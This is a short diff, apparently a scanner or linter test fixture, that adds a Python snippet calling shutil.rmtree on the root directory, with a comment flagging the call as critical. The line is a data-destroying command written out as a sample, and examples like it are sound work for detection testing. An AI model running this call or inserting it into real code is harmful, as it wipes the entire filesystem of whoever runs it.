@@ -1,0 +1,3 @@
+import shutil
+shutil.rmtree("/")
+#^^^^^^^^^^^^^^^^^ critical: deletes the folder "/" and everything below
